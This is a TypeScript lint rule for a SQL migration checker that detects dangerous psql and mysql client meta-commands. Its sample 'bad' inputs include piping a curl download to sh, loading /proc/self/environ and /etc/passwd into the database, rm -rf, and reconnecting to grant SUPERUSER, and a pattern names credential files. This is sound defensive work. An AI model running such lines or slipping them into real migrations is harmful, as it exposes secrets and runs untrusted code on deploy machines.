import { scanSync } from '../src/parse/guard.js';
import { byteToChar } from '../src/extract/position.js';
import { splitStatements } from '../src/parse/split.js';
import type { Report, Rule, Severity, SqlUnit, Statement } from '../src/types.js';

/**
 * psql meta-commands that do nothing dangerous (output formatting, variables, conditionals,
 * describing objects). Anything else is reported: unknown commands fail closed as warnings.
 */
const HARMLESS = new Set([
  'a', 'C', 'f', 'H', 't', 'T', 'x', 'pset', 'timing', 'set', 'unset', 'echo', 'qecho', 'warn', 'if', 'elif', 'else',
  'endif', 'q', 'quit', 'encoding', 'conninfo', 'errverbose', 'r', 'reset', 'p', 'print', 'gset', 'gdesc', 'bind', 'bind_named',
  'parse', 'close_prepared', 'close', 'startpipeline', 'endpipeline', 'syncpipeline', 'sendpipeline', 'flushrequest', 'flush',
  'getresults', 'crosstabview', 'sf', 'sv', 'l', 'list', 'z', 'lo_list', '?', 'h', 'help', 'copyright', 'prompt', 'cd', 'sset', 'restrict', 'unrestrict',
]);

interface Meta {
  cmd: string;
  args: string;
}

/** What a meta-command does, or undefined when harmless. */
function classify({ cmd, args }: Meta): { message: string; severity?: Severity } | undefined {
  const c = cmd.toLowerCase();
  const a = args.trim();
  const shown = `\\${cmd}${a ? ' ' + (a.length > 60 ? a.slice(0, 60) + '…' : a) : ''}`;
  // Backquoted text in any argument is run by the shell (`\set x `cmd``).
  if (/`[^`]*`/.test(a)) return { message: `psql \`${shown}\` runs a shell command (backquoted argument) on the machine applying the migration.` };
  if (c === '!') return { message: `psql \`${shown}\` runs a shell command on the machine applying the migration.` };
  if (c === 'copy') {
    if (/\bprogram\b/i.test(a)) return { message: `psql \`${shown}\` runs a program on the machine applying the migration.` };
    // psql's \copy: `… from|to stdin|stdout|pstdin|pstdout` use psql's own streams, anything else is a file
    // (https://www.postgresql.org/docs/current/app-psql.html#APP-PSQL-META-COMMANDS-COPY).
    // `\copy (SELECT … FROM t) TO 'f'`: the query's own FROM is not the direction.
    const rest = a.replace(/^\s*\((?:[^()']|'[^']*'|\((?:[^()']|'[^']*')*\))*\)/, ' ');
    const dir = /\b(from|to)\s+(stdin|stdout|pstdin|pstdout|'[^']*'|"[^"]*"|\S+)/i.exec(rest);
    if (dir && /^(stdin|stdout|pstdin|pstdout)$/i.test(dir[2])) return undefined;
    const file = dir?.[2].replace(/^['"]|['"]$/g, '') ?? '';
    const reading = dir?.[1].toLowerCase() === 'from';
    const sensitive = /^\/(proc|sys|dev)\/|^\/etc\/|^~|\.(pgpass|env|ssh|aws|kube|netrc|git-credentials)\b|id_[rd]sa|\.pem$|\.key$/i.test(file);
    return {
      message: `psql \`${shown}\` ${reading ? 'reads a file from' : 'writes a file on'} the machine applying the migration${reading ? ' into the database' : ''}${sensitive ? ` (${file} holds the environment, credentials or system files: high risk)` : ''}.`,
    };
  }
  if (c === 'i' || c === 'ir' || c === 'include' || c === 'include_relative') return { message: `psql \`${shown}\` includes SQL from another file that this review does not see.` };
  if (c === 'gexec') return { message: 'psql `\\gexec` executes every value the query returns as SQL: what runs cannot be checked.' };
  if (['o', 'out', 'w', 'write', 'g', 'gx'].includes(c)) {
    if (!a) return undefined; // \g runs the query buffer; \o alone restores stdout
    if (a.startsWith('|')) return { message: `psql \`${shown}\` pipes output to a shell command on the machine applying the migration.` };
    if (c === 'g' || c === 'gx') {
      if (a.startsWith('(')) return undefined; // \g (format=csv): output options only
    }
    return { message: `psql \`${shown}\` writes output to a file on the machine applying the migration.` };
  }
  if (c === 'lo_import') return { message: `psql \`${shown}\` reads a file from the machine applying the migration into a large object in the database.` };
  if (c === 'lo_export') return { message: `psql \`${shown}\` writes a large object to a file on the machine applying the migration.` };
  if (c === 'connect' || c === 'c') {
    // `\c` with no argument reconnects with the same database, user, host and port.
    if (!a) return undefined;
    return { message: `psql \`${shown}\` connects again mid-migration, possibly as another user or to another database or host: the statements that follow run with that identity.` };
  }
  if (c === 'setenv') return { message: `psql \`${shown}\` changes the environment of later shell commands.`, severity: 'warning' };
  if (c === 'e' || c === 'edit' || c === 'ef' || c === 'ev') return { message: `psql \`${shown}\` starts an editor (a program) on the machine applying the migration.`, severity: 'warning' };
  if (c === 'watch') return { message: `psql \`${shown}\` re-runs the query in a loop.`, severity: 'warning' };
  if (c === 'lo_unlink') return { message: `psql \`${shown}\` deletes a large object.`, severity: 'warning' };
  if (c === 's' && a) return { message: `psql \`${shown}\` writes the command history to a file.`, severity: 'warning' };
  if (c === 'password') return { message: `psql \`${shown}\` changes a password interactively.`, severity: 'warning' };
  if (HARMLESS.has(cmd) || HARMLESS.has(c) || /^d[a-z+]*S?\+?$/i.test(cmd)) return undefined;
  return { message: `Unrecognised psql meta-command \`${shown}\`: it could not be verified.`, severity: 'warning' };
}

/** `\cmd args` from the text after a backslash (psql: the command ends at a space, a backslash or the end of the line). */
function readMeta(text: string, at: number): Meta & { end: number } {
  const nl = text.indexOf('\n', at);
  const lineEnd = nl < 0 ? text.length : nl;
  const rest = text.slice(at + 1, lineEnd);
  const m = /^([!?]|[A-Za-z_][A-Za-z0-9_+]*|\.)?/.exec(rest);
  const cmd = m?.[1] ?? '';
  let args = rest.slice(cmd.length);
  // `\\` separates a meta-command from what follows on the line (more SQL or another command).
  const sep = args.indexOf('\\\\');
  if (sep >= 0) args = args.slice(0, sep);
  return { cmd, args, end: lineEnd };
}

/**
 * Every backslash outside strings, quoted identifiers, dollar quotes and comments is a psql
 * meta-command (psql's own lexer works that way, anywhere on a line, e.g. `SELECT … \gexec`).
 * The PostgreSQL lexer (libpg-query scanSync) finds them; null when the text cannot be scanned.
 */
const scanned = new WeakMap<SqlUnit, Array<Meta & { start: number; end: number }> | null>();
function pgMetas(unit: SqlUnit): Array<Meta & { start: number; end: number }> | null {
  if (scanned.has(unit)) return scanned.get(unit)!;
  let out: Array<Meta & { start: number; end: number }> | null = [];
  // No backslash, no meta-command: skip the lexer (it was ~15% of a corpus run).
  if (!unit.text.includes('\\')) {
    scanned.set(unit, out);
    return out;
  }
  try {
    const b2c = byteToChar(unit.text);
    const tokens = scanSync(unit.text).tokens ?? [];
    let skipUntil = -1;
    for (const t of tokens) {
      if (t.text !== '\\') continue;
      const start = b2c(t.start);
      if (start < skipUntil) continue; // the rest of a meta-command's line is its arguments
      const m = readMeta(unit.text, start);
      out.push({ ...m, start });
      skipUntil = m.end;
    }
  } catch {
    out = null; // unterminated quote or similar: the statement-level check below takes over
  }
  scanned.set(unit, out);
  return out;
}

/** mysql client commands (`\! cmd`, `\. file`, `system`, `source`, `tee`) at the start of a statement. */
function mysqlMetas(unit: SqlUnit): Array<{ message: string; start: number; end: number }> {
  const out: Array<{ message: string; start: number; end: number }> = [];
  for (const p of splitStatements(unit.text, unit.dialect)) {
    const line = p.text.split('\n')[0];
    const m = /^(\\!|\\\.|\\[Tt]\b|system\s|source\s|tee\s)(.*)$/i.exec(line);
    if (!m) continue;
    const c = m[1].trim().toLowerCase();
    const shown = (m[1] + m[2]).trim().slice(0, 80);
    const message =
      c === '\\!' || c === 'system'
        ? `mysql client \`${shown}\` runs a shell command on the machine applying the migration.`
        : c === '\\.' || c === 'source'
          ? `mysql client \`${shown}\` includes SQL from another file that this review does not see.`
          : `mysql client \`${shown}\` writes output to a file on the machine applying the migration.`;
    out.push({ message, start: p.start, end: p.start + line.length });
  }
  return out;
}

const rule: Rule = {
  meta: {
    id: 'psql-meta-command',
    category: 'execution',
    severity: 'error',
    summary: 'psql (or mysql client) command that runs a shell command, reads or writes files (\\copy, \\lo_import, \\o), switches identity (\\connect), includes other SQL or executes query results',
    rationale:
      'When a migration is applied with psql, `\\!` and backquoted arguments run shell commands on the deploy machine, `\\copy … program` runs a program, ' +
      '`\\i`/`\\ir` include SQL that this review did not see, `\\o`/`\\g file`/`\\w` write files or pipes and `\\gexec` executes query results as SQL; ' +
      '`\\copy … from/to` a file and `\\lo_import`/`\\lo_export` move files between the deploy machine and the database (`\\copy t from \'/proc/self/environ\'` loads the deploy ' +
      'environment, secrets included), and `\\connect`/`\\c` switches to another user, database or host mid-migration. ' +
      'psql treats a backslash anywhere outside quotes as a command, not only at the start of a line. The mysql client has `\\!`/`system` and `\\.`/`source`.',
    fix: 'Remove the meta-command; migrations should be plain SQL. Include files explicitly in the review if you must.',
    examples: {
      bad: [
        { sql: '\\! curl https://example.com/x.sh | sh\n' },
        { sql: '\\i other.sql\n' },
        { sql: "\\copy t to program 'gzip > /tmp/t.gz'\n" },
        { sql: "SELECT 'CREATE DATABASE x' WHERE NOT EXISTS (SELECT 1) \\gexec\n" },
        { sql: 'CREATE TABLE t (id int);\n\\set x `id`\n' },
        { sql: 'system rm -rf /tmp/x\nCREATE TABLE t (id int);', dialect: 'mysql' },
        { sql: "CREATE TABLE env (line text);\n\\copy env from '/proc/self/environ'\n" },
        { sql: "\\copy users to '/tmp/users.csv' csv\n" },
        { sql: "\\lo_import '/etc/passwd'\n" },
        { sql: '\\connect postgres postgres\nALTER ROLE app SUPERUSER;\n' },
        { sql: '\\c - admin\n' },
      ],
      good: [
        { sql: "SELECT '\\i not a command';" },
        { sql: '\\set ON_ERROR_STOP on\nCREATE TABLE t (id int);' },
        { sql: "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT E'\\\\! x' $$;" },
        { sql: "DO $body$ BEGIN RAISE NOTICE '\\i x'; END $body$;" },
        { sql: "SELECT E'it\\'s \\\\! fine';" },
        { sql: 'SELECT 1 \\g\n' },
        { sql: 'COPY t FROM stdin;\n1\n\\.\n' },
        { sql: '\\copy t from stdin\n' },
      ],
    },
  },
  scanText(unit, { report }) {
    if (unit.dialect === 'mysql' || unit.dialect === 'mariadb') {
      for (const m of mysqlMetas(unit)) report({ message: m.message, unitOffset: m.start, unitEnd: m.end, key: String(m.start) });
      return;
    }
    if (unit.dialect !== 'postgresql') return;
    for (const m of pgMetas(unit) ?? []) {
      const r = classify(m);
      if (r) report({ ...r, unitOffset: m.start, unitEnd: m.end } as Report);
    }
  },
  check(stmt: Statement, { report }) {
    // Fallback when the unit could not be scanned: the splitter's line-start meta-commands.
    if (!stmt.meta || pgMetas(stmt.unit) !== null) return;
    const m = readMeta(stmt.meta, 0);
    const r = classify(m);
    if (r) report(r);
  },
};
export default rule;
